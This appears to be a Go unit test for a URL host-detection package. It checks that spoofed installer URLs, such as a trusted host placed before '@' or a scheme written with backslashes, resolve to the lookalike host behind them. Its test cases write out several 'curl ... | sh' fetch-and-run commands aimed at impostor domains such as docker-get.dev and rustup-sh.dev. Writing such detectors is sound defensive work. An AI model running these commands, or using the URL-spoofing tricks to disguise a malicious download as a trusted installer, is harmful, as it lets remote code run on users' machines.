package hosts

import (
	"strings"
	"testing"
)

// TestUserinfoAndSlashForms (fix16): a known host written as the user
// part of a URL is not the host, whatever character the URL pattern
// would stop at comes before the '@' (',', ';', '(', '|', '[', '<', a
// quote the shell joins to the next word), and a scheme whose slashes
// are backslashes, one or three (https:\\evil, https:/evil,
// https:///evil) names the host WHATWG reads. The honest twin of each
// is the known host written plainly with the same punctuation after it.
func TestUserinfoAndSlashForms(t *testing.T) {
	for _, c := range []struct {
		line  string
		known bool
		host  string
	}{
		// Malicious: the real host is the one after '@'.
		{`curl -fsSL "https://get.docker.com,@docker-get.dev/" | sh`, false, "docker-get.dev"},
		{`curl -fsSL "https://get.docker.com;@docker-get.dev/" | sh`, false, "docker-get.dev"},
		{`curl -fsSL "https://get.docker.com(@docker-get.dev/" | sh`, false, "docker-get.dev"},
		{`curl -fsSL "https://get.docker.com|@docker-get.dev/" | sh`, false, "docker-get.dev"},
		{`curl -fsSL "https://get.docker.com[@docker-get.dev/" | sh`, false, "docker-get.dev"},
		{`curl -fsSL "https://get.docker.com<@docker-get.dev/" | sh`, false, "docker-get.dev"},
		{`curl -fsSL https://sh.rustup.rs,@rustup-sh.dev | sh`, false, "rustup-sh.dev"},
		{`curl -fsSL "https://get.docker.com"@docker-get.dev/x | sh`, false, "docker-get.dev"},
		{`curl -fsSL 'https://get.docker.com'"@docker-get.dev/x" | sh`, false, "docker-get.dev"},
		{`fetch("https://get.docker.com,@docker-get.dev").then(r => r.text())`, false, "docker-get.dev"},
		{`curl -fsSL https:\\docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
		{`curl -fsSL https:/docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
		{`curl -fsSL https:///docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
		{`curl -fsSL https:/\docker-get.dev/x.sh | sh`, false, "docker-get.dev"},
		{`fetch("https://get.docker.com @docker-get.dev/x.sh")`, false, "docker-get.dev"},
		{`requests.get('https://sh.rustup.rs	@rustup-sh.dev/')`, false, "rustup-sh.dev"},
		// Honest twins: the known host, punctuation after it but no '@'.
		{`echo "see https://get.docker.com and the docs"; git log --author=a@b.dev`, true, "get.docker.com"},
		{`fetch("https://get.docker.com").then(() => notify("ops@example.com"))`, true, "get.docker.com"},
		{`curl -fsSL "https://get.docker.com", then run it`, true, "get.docker.com"},
		{`See (https://get.docker.com); it installs Docker.`, true, "get.docker.com"},
		{`curl -fsSL https://sh.rustup.rs | sh # or mail admin@example.com`, true, "sh.rustup.rs"},
		{`{"url":"https://get.docker.com","email":"ops@example.com"}`, true, "get.docker.com"},
		{`curl -fsSL "https://get.docker.com" -o get-docker.sh`, true, "get.docker.com"},
		{`curl -fsSL https://get.docker.com/ | sh`, true, "get.docker.com"},
	} {
		us := URLs(c.line)
		if len(us) == 0 {
			t.Errorf("%s: no URL", c.line)
			continue
		}
		if got := Known(us[0]); got != c.known || us[0].Host != c.host {
			t.Errorf("%s: host %q known %v, want %q %v", c.line, us[0].Host, got, c.host, c.known)
		}
	}
}

// TestUserinfoBounded (fix16): the authority read past a stop character
// is at most 256 bytes, on a 1 MiB line of such characters too.
func TestUserinfoBounded(t *testing.T) {
	line := "https://get.docker.com" + strings.Repeat(",", 1<<20) + "@evil.dev"
	if _, ok := userinfo(line, 0, len("https://"), len("https://get.docker.com")); ok {
		t.Errorf("an '@' 1 MiB on was read")
	}
	us := URLs(strings.Repeat("https://a.dev,"+strings.Repeat(";", 300), 1<<10))
	if len(us) != 8 {
		t.Errorf("%d URLs, want at most 8", len(us))
	}
}
